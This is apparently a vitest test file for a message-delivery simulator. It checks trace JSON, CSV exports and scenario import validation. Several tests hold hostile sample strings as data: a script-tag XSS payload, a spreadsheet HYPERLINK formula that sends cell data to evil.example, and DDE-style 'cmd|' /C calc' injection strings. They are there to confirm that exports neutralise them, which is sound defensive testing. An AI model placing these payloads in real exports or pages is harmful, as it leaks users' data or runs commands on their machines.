import { describe, expect, it, vi } from 'vitest';
import { issueLines, parseScenarioJson, traceHash } from '../../engine';
import { importScenarioFile, importScenarioText, importScenarioTransfer } from './scenarioImport';
import {
  TRACE_FORMAT,
  ledgerCsv,
  scenarioJson,
  tableCsv,
  traceJson,
  traceJsonChunks,
  type TraceFile,
} from './export';
import { HOSTILE, LOST_ACK, runOf } from '../diagrams/mermaid.testdata';

// Whole runs on a loaded two-core machine: its slowest test took 1.3 s in a full CI run
// (this file 3.0 s), so each gets 10 s, ≥ 5× that, far from vitest's 5 s default.
vi.setConfig({ testTimeout: 10_000 });

describe('scenario JSON', () => {
  it('writes the scenario as written, and it opens again', () => {
    const text = scenarioJson(LOST_ACK);
    expect(text.endsWith('}\n')).toBe(true);
    expect(JSON.parse(text)).toEqual(LOST_ACK);
    const back = importScenarioText(text);
    expect(back.ok).toBe(true);
  });
});

describe('trace JSON', () => {
  it('decodes every entry with kind and code names, and carries the name tables and the hash', () => {
    const run = runOf(LOST_ACK);
    const file = JSON.parse(traceJson(run)) as TraceFile;
    expect(file.format).toBe(TRACE_FORMAT);
    expect(file.version).toBe(1);
    expect(file.traceHash).toBe(traceHash(run.trace));
    expect(file.actors).toEqual(run.trace.actors);
    expect(file.topics).toEqual(['payments']);
    expect(file.events).toEqual([
      { id: 'e1', key: 'e1', amount: 10, at: 0 },
      { id: 'e2', key: 'e2', amount: 20, at: 10 },
    ]);
    expect(file.entries).toHaveLength(run.trace.length);
    // The first entries: the application sends e1 and the producer sends it to broker-1.
    expect(file.entries[0]).toEqual({
      id: 0,
      time: 0,
      kind: 'app-send',
      actor: 5,
      event: 0,
      topic: 0,
      partition: 0,
      aux: 0,
      auxName: 'first',
    });
    expect(file.entries[1]).toEqual({
      id: 1,
      time: 0,
      kind: 'msg',
      actor: 5,
      peer: 1,
      cause: 0,
      event: 0,
      topic: 0,
      partition: 0,
      count: 1,
      aux: 0,
      auxName: 'produce',
      until: 2,
    });
    const lost = file.entries.find((e) => e.kind === 'msg-lost')!;
    expect(lost.auxName).toBe('produce-response');
    expect(file.entries.find((e) => e.kind === 'reject')!.auxName).toBe('REQUEST_TIMED_OUT');
    // Every field the engine records as -1 is left out.
    for (const e of file.entries) for (const v of Object.values(e)) expect(v).not.toBe(-1);
  });

  it('comes in chunks that concatenate to the same document', () => {
    const run = runOf(HOSTILE);
    const chunks = [...traceJsonChunks(run)];
    expect(chunks.join('')).toBe(traceJson(run));
    const file = JSON.parse(chunks.join('')) as TraceFile;
    expect(file.events[0]!.id).toBe('<script>window.__pwned=1</script>');
  });
});

describe('CSV exports', () => {
  it('writes the sink table, marking the duplicate copy, its rows numbered from 1 as on screen', () => {
    expect(tableCsv(runOf(LOST_ACK))).toBe(
      'row,business_id,key,amount,copy,live,source_topic,source_partition,source_offset,inserted_at_ms\r\n' +
        '1,e1,e1,10,1,true,payments,0,0,5009\r\n' +
        '2,e1,e1,10,2,true,payments,0,1,5014\r\n' +
        '3,e2,e2,20,1,true,payments,0,2,5019\r\n',
    );
  });

  it('writes the per-event ledger with every observation point and the explanation', () => {
    const sentence =
      'the acknowledgement of e1 was lost (fault ""lost ack"") → the producer retried the same batch → with idempotence off (enable.idempotence=false) the broker appended e1 a second time → a plain INSERT has no key to collapse the copies';
    expect(ledgerCsv(runOf(LOST_ACK))).toBe(
      'business_id,key,amount,fate,log:payments,processed,sink,latency_ms,explanation\r\n' +
        `e1,e1,10,duplicated,2,2,2,5009,"${sentence}"\r\n` +
        'e2,e2,20,once,1,1,1,5009,\r\n',
    );
  });

  it('returns null for a table the run does not have', () => {
    expect(tableCsv(runOf(LOST_ACK), 'reader:nobody')).toBeNull();
  });

  it('neutralises formula starters in hostile ids, in every table', () => {
    const run = runOf(HOSTILE);
    for (const csv of [
      tableCsv(run)!,
      tableCsv(run, 'reader:javascript:window.__pwned=1')!,
      ledgerCsv(run),
    ]) {
      const cells = csv.split(/,|\r\n/).map((c) => c.replace(/^"/, ''));
      for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t]/);
      expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"');
      expect(csv).toContain("'+1+cmd|' /C calc'!A0");
      expect(csv).toContain("'-2+3");
      expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(csv).toContain("'\tTAB");
      expect(csv).toContain('"\'\rCR"');
    }
  });
});

describe('import', () => {
  it('accepts a valid scenario (with a byte-order mark) from text', () => {
    const r = importScenarioText(`\uFEFF${JSON.stringify(LOST_ACK)}`);
    expect(r.ok).toBe(true);
  });

  it('refuses bad input with issues that name the field', () => {
    expect(importScenarioText('')).toEqual({
      ok: false,
      issues: [{ path: '', message: 'empty: expected a scenario (JSON)' }],
    });
    const bad = importScenarioText(
      JSON.stringify({
        ...LOST_ACK,
        producer: { acks: 'sometimes' },
        faults: [{ kind: 'crash', target: 'nobody' }],
      }),
    );
    expect(bad.ok).toBe(false);
    if (bad.ok) return;
    // Every problem at once: the refused acks, and the fault's target beside it.
    expect(issueLines(bad.issues)).toEqual([
      'producer.acks: expected "0", "1", "all" or "-1", got "sometimes"',
      'faults.0.target: no component "nobody" (targets: producer, sink, broker-1, broker-2, broker-3, consumer-0)',
    ]);
    const syntax = importScenarioText('{"version": 1,');
    expect(syntax.ok).toBe(false);
    if (!syntax.ok) expect(syntax.issues[0]!.path).toBe('');
  });

  it('refuses a 100 KB name with a message naming the field', () => {
    const r = importScenarioText(JSON.stringify({ ...LOST_ACK, name: 'x'.repeat(100_000) }));
    expect(r).toEqual({
      ok: false,
      issues: [{ path: 'name', message: 'at most 200 characters' }],
    });
    const id = importScenarioText(
      JSON.stringify({
        ...LOST_ACK,
        workload: { events: [{ id: '<script>'.repeat(12_500), amount: 1, at: 0 }] },
      }),
    );
    expect(id.ok).toBe(false);
    if (!id.ok) expect(id.issues.map((i) => i.path)).toContain('workload.events.0.id');
  });

  it('reads a file, refusing a huge one before reading it', async () => {
    const ok = await importScenarioFile({ size: 10, text: async () => JSON.stringify(LOST_ACK) });
    expect(ok.ok).toBe(true);
    let read = false;
    const huge = await importScenarioFile({
      name: 'huge.json',
      size: 50_000_000,
      text: async () => {
        read = true;
        return '';
      },
    });
    expect(read).toBe(false);
    expect(huge.ok).toBe(false);
    const failing = await importScenarioFile({
      name: 'x.json',
      size: 1,
      text: () => Promise.reject(new Error('NotReadableError')),
    });
    expect(failing).toEqual({
      ok: false,
      issues: [{ path: '', message: 'could not read x.json: Error: NotReadableError' }],
    });
  });

  it('takes the first dropped file, else the pasted text', async () => {
    const file = { size: 10, text: async () => JSON.stringify(LOST_ACK) };
    expect((await importScenarioTransfer({ files: [file], getData: () => 'nonsense' })).ok).toBe(
      true,
    );
    expect(
      (await importScenarioTransfer({ files: [], getData: () => JSON.stringify(LOST_ACK) })).ok,
    ).toBe(true);
    const text = await importScenarioTransfer({ getData: () => 'not json' });
    expect(text.ok).toBe(false);
  });

  it('the hostile-strings scenario is valid: hostile strings are data, within the limits', () => {
    expect(parseScenarioJson(JSON.stringify(HOSTILE)).ok).toBe(true);
  });
});
